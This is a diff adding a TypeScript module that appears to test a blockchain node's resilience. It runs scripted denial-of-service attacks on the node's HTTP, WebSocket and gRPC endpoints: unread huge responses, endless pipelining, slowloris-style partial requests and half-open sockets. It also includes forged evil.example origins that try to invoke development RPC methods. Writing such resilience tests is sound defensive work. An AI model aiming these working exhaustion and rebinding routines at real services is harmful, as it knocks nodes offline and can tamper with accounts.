@@ -1,0 +1,153 @@
+/** Attacks by connections: clients that do not read, send slowly, never finish, or disconnect. */
+import { callOf, ENDLESS, NOBODY } from './code.ts'
+import {
+  type Attack,
+  call,
+  cometSocketUrl,
+  holdOpen,
+  openGrpc,
+  openSocket,
+  openWebSocket,
+  repeat,
+  send,
+} from './target.ts'
+
+/** Returns two megabytes of zeros: PUSH3 size, PUSH0, RETURN. */
+const LONG_ANSWER = '0x620fffff5ff3'
+
+const httpPost = (body: string): string =>
+  `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`
+
+/** 300 HTTP clients request 25 MB each, twice, and never read. */
+export const unreadHttp: Attack = async (target) => {
+  const request = httpPost(JSON.stringify(Array.from({ length: 12 }, (_, id) => callOf(LONG_ANSWER, id))))
+  return (stop, count) =>
+    holdOpen(300, stop, count, () => {
+      const socket = openSocket(target, target.config.urls.jsonrpc)
+      socket.pause()
+      // The second request waits until the answer to the first is taken.
+      socket.write(request + request)
+      return socket
+    })
+}
+
+/** 20 clients pipeline requests without end behind one whose answer takes long. */
+export const pipelined: Attack = async (target) => {
+  const first = httpPost(JSON.stringify(callOf(ENDLESS)))
+  const more = Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(1000))
+  return (stop, count) =>
+    holdOpen(20, stop, count, () => {
+      const socket = openSocket(target, target.config.urls.jsonrpc)
+      socket.write(first)
+      const sendMore = (): void => {
+        if (!socket.destroyed) socket.write(more, () => sendMore())
+      }
+      sendMore()
+      return socket
+    })
+}
+
+/** 40 WebSocket clients request 200 MB each and never read. */
+export const unreadWebSocket: Attack = async (target) => (stop, count) =>
+  holdOpen(40, stop, count, async () => {
+    const socket = await openWebSocket(target, target.config.urls.ws)
+    socket.pause()
+    for (let id = 0; id < 100; id++) socket.send(JSON.stringify(callOf(LONG_ANSWER, id)))
+    return socket
+  })
+
+/** 40 clients of the CometBFT WebSocket subscribe to everything, request long answers and never read. */
+export const unreadEvents: Attack = async (target) => (stop, count) =>
+  holdOpen(40, stop, count, async () => {
+    const socket = await openWebSocket(target, cometSocketUrl(target))
+    socket.pause()
+    for (const event of ['NewBlock', 'NewBlockEvents', 'Tx']) {
+      socket.send(JSON.stringify(call('subscribe', { query: `tm.event='${event}'` }, event)))
+    }
+    for (let id = 0; id < 2000; id++) socket.send(JSON.stringify(call('genesis', {}, id)))
+    return socket
+  })
+
+/** Every account in one page: the first field of the page request is its limit. */
+const EVERY_ACCOUNT = Buffer.from([0, 0, 0, 0, 5, 0x0a, 0x03, 0x18, 0xe8, 0x07])
+
+/** 40 gRPC clients make 250 calls each and take no byte. */
+export const unreadGrpc: Attack = async (target) => (stop, count) =>
+  holdOpen(40, stop, count, () => {
+    const session = openGrpc(target, 0)
+    for (let i = 0; i < 250; i++) {
+      const stream = session.request({
+        ':method': 'POST',
+        ':path': '/sdk.auth.v1beta1.Query/Accounts',
+        'content-type': 'application/grpc',
+        te: 'trailers',
+      })
+      stream.on('error', () => {})
+      stream.end(EVERY_ACCOUNT)
+    }
+    return session
+  })
+
+const SLOW_BODY_BYTES = 5_000_000
+
+/** 200 clients send a body of 5 MB except for its last byte, and wait. */
+export const slowBodies: Attack = async (target) => {
+  const most = Buffer.alloc(SLOW_BODY_BYTES - 1, 0x20)
+  const head = `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n`
+  return (stop, count) =>
+    holdOpen(200, stop, count, () => {
+      const socket = openSocket(target, target.config.urls.jsonrpc)
+      socket.resume()
+      socket.write(head)
+      socket.write(most)
+      return socket
+    })
+}
+
+/** 1,500 connections, of which a third sends nothing, a third half a head, and a third half a body. */
+export const halfOpen: Attack = async (target) => {
+  const beginnings = ['', 'POST / HTTP/1.1\r\nHost: localhost\r\nX-', httpPost('{"id":1}').slice(0, -1)]
+  let next = 0
+  return (stop, count) =>
+    holdOpen(1500, stop, count, () => {
+      const { rest, jsonrpc, comet } = target.config.urls
+      const socket = openSocket(target, [rest, jsonrpc, comet][next % 3]!)
+      socket.resume()
+      socket.write(beginnings[Math.floor(next++ / 3) % 3]!)
+      return socket
+    })
+}
+
+/** Clients that send a request with half a body and disconnect. */
+export const abortedPosts: Attack = async (target) => {
+  const half = httpPost(JSON.stringify(callOf(ENDLESS))).slice(0, -20)
+  let next = 0
+  return (stop, count) =>
+    repeat(4, stop, count, () => {
+      const { rest, jsonrpc, comet } = target.config.urls
+      const socket = openSocket(target, [rest, jsonrpc, comet][next++ % 3]!)
+      return new Promise((resolve) => {
+        socket.once('close', () => resolve('aborted'))
+        socket.write(half, () => setTimeout(() => socket.resetAndDestroy(), 2))
+      })
+    })
+}
+
+/** Pages of other websites, and names that were rebound to this machine, that use development methods and keys. */
+export const foreignPages: Attack = async (target) => {
+  const [account] = target.config.accounts
+  const calls = [
+    call('anvil_setBalance', [account!.address, '0x0']),
+    call('eth_sendTransaction', [{ from: account!.address, to: NOBODY, value: '0x1' }]),
+    call('hardhat_reset', []),
+    call('evm_mine', []),
+  ]
+  const provenances = [{ origin: 'https://evil.example' }, { host: 'evil.example' }, { origin: 'null' }]
+  let next = 0
+  return (stop, count) =>
+    repeat(2, stop, count, async () => {
+      const body = JSON.stringify(calls[next % calls.length])
+      const { text } = await send(target, target.config.urls.jsonrpc, { body, headers: provenances[next++ % 3]! })
+      return JSON.parse(text).error ? 'refused' : 'executed'
+    })
+}
